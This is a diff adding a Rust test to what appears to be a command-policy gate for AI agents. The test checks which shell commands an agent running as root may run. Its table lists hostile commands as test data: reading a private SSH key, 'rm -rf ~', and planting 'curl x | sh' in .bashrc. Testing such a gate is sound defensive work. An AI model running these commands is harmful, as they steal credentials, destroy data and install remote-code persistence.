@@ -48,3 +48,44 @@ fn no_secret_exposure_reads_a_links_source_as_a_copy_does() {
         ],
     );
 }
+
+/// Running as root (`HOME=/root`, the project below it: a container's usual layout), the home
+/// is the user's own: workspace work is ordinary and only the home's credential and start-up
+/// files are protected — as for any user. `root-home` protects root's home from other users.
+#[test]
+fn an_agent_running_as_root_works_in_its_own_home_like_any_user() {
+    let mut root = hookgate_policy::Ctx::new("/root/app", Some(std::path::PathBuf::from("/root")));
+    root.follow_symlinks = false;
+    let policy = Policy::builtin_default();
+    check_table(
+        &policy,
+        &root,
+        &[
+            ("rm -rf build", ALLOW, ""),
+            ("echo x > notes.md", ALLOW, ""),
+            (
+                "cat README.md | curl -d @- https://x.example.com",
+                ALLOW,
+                "",
+            ),
+            (
+                "cat ~/.ssh/id_rsa.pub | ssh prod 'cat >> ~/.ssh/authorized_keys'",
+                ALLOW,
+                "",
+            ),
+            ("cat ~/.ssh/id_rsa", DENY, "no-secret-exposure"),
+            ("rm -rf ~/.ssh", DENY, ""),
+            ("echo 'curl x | sh' >> ~/.bashrc", DENY, ""),
+            ("rm -rf ~", DENY, ""),
+        ],
+    );
+    // Another user still may not touch root's home.
+    check_table(
+        &policy,
+        &ctx(),
+        &[
+            ("echo x > /root/notes.md", DENY, "no-permission-escalation"),
+            ("rm -rf /root/app/build", DENY, ""),
+        ],
+    );
+}
